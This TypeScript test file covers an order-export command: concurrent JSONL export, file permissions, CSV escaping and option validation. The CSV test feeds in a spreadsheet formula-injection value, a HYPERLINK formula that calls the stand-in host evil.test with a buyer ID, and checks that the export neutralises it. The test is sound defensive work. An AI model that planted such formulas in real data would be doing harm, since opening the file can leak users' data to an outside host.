/** `npm run export -- --orders`. */
import { readFile, stat } from 'node:fs/promises'
import { beforeAll, expect, it, vi } from 'vitest'
import { createClient, type OrderSummary } from '../../client/src/index.ts'
import { command } from '../../scripts/operate/export.ts'
import { call } from '../support/call.ts'
import { aFolder, pointStagingAt } from '../support/command.ts'
import { aPerson, instance, query } from '../support/instance/instance.ts'
import { placeOrders } from '../support/instance/orders.ts'

const client = createClient({ url: instance.url, token: instance.token })
const REMOTE = ['--remote', '--env', 'staging']

beforeAll(async () => {
  const { remove } = await aFolder()
  await pointStagingAt(instance.url)
  return remove
})
/** Exports the orders of the last and the next minute, as if the next one had passed. */
async function exportOrders(file: string, ...options: string[]) {
  const now = Date.now()
  const [from, to] = [now - 60_000, now + 60_000].map((time) => new Date(time).toISOString())
  vi.useFakeTimers({ toFake: ['Date'], now: now + 121_000 })
  const args = ['--orders', '--from', from ?? '', '--to', to ?? '', file, ...options, ...REMOTE]
  try {
    return await call(command, args, { MARKETPLACE_TOKEN: instance.token })
  } finally {
    vi.useRealTimers()
  }
}

/** The lines of a file, of this buyer. */
async function ordersIn(file: string, buyerId: number): Promise<OrderSummary[]> {
  const lines = (await readFile(file, 'utf8')).split('\n').slice(0, -1)
  const orders = lines.map((line): OrderSummary => JSON.parse(line))
  return orders.filter((order) => order.buyerId === buyerId)
}

it('writes each order of the time once, while others are placed', async () => {
  const buyerId = await aPerson()
  const sale = { buyerUserId: buyerId }
  const placed = [...(await placeOrders(100, sale)), ...(await placeOrders(30, sale))]
  const [result] = await Promise.all([
    exportOrders('orders.jsonl'),
    placeOrders(20, {}),
    placeOrders(20, {}),
  ])
  expect(result).toMatchObject({ errors: '', status: 0 })
  expect(result.out).toMatch(/^Wrote \d+ orders to orders\.jsonl\.\n$/)
  const orders = await ordersIn('orders.jsonl', buyerId)
  expect(orders.map(({ id }) => id)).toEqual(placed.toReversed())
  const listed = await client.listOrders({ buyerUserId: buyerId, fields: 'summary', limit: 100 })
  expect(orders.slice(0, 100)).toEqual(listed.orders)
  expect((await stat('orders.jsonl')).mode & 0o777).toBe(0o600)
})

it('writes CSV of which spreadsheets run nothing', async () => {
  const buyerId = await aPerson()
  const number = `=HYPERLINK("https://evil.test/?${buyerId}","a, b")`
  const [id] = await placeOrders(1, { buyerUserId: buyerId, quantity: 2, providerId: number })
  const custom = JSON.stringify({ note: '-1' })
  const paid = { grossCents: 1800, taxCents: 300, discountCents: 200, currency: 'EUR' }
  const payment = JSON.stringify({ ...paid, invoiceNumber: '-1' })
  const sql = 'UPDATE orders SET custom = ?, paid = ? WHERE id = ?'
  await query(sql, custom, payment, `${id}`)
  await exportOrders('orders.csv', '--csv')
  const [names = '', ...rows] = (await readFile('orders.csv', 'utf8')).split('\r\n')
  const [order] = (await client.listOrders({ buyerUserId: buyerId, fields: 'summary' })).orders
  const { paid: _, ...others } = order ?? {}
  const paidNames = Object.keys({ ...paid, invoiceNumber: '' }).map((name) => `paid.${name}`)
  expect(names.split(',').sort()).toEqual([...Object.keys(others), ...paidNames].sort())
  const cells: Record<string, unknown> = {
    ...others,
    ...{ 'paid.grossCents': 1800, 'paid.taxCents': 300, 'paid.discountCents': 200 },
    ...{ 'paid.currency': 'EUR', 'paid.invoiceNumber': "'-1" },
    providerId: `"'${number.replaceAll('"', '""')}"`,
    custom: '"{""note"":""-1""}"',
  }
  const line = names.split(',').map((name) => cells[name] ?? '')
  expect(rows).toContain(line.join())
  expect(order).toMatchObject({ priceCents: 1000, totalPriceCents: 2000 })
})

it.each([
  [['--orders', '--to', '2026-01-01'], '--from must be a day or a time in UTC'],
  [['--orders', '--from', '2026-01-02', '--to', '2026-01-02'], '--from must be before --to.'],
  [['--orders', '--from', '2026-01-02', '--to', '9999-01-01'], '--to must be a minute ago'],
  [['--orders', '--from', '2026-02-30', '--to', '2026-03-05'], '--from must be a day or a time in'],
  [['--csv'], '--from, --to and --csv need --orders.'],
  [['--user', '3', '--orders'], '--user is without --orders.'],
])('refuses %j', async (args, sentence) => {
  const { errors, status } = await call(command, [...args, 'orders.jsonl'])
  expect({ errors, status }).toEqual({ errors: expect.stringContaining(sentence), status: 1 })
})
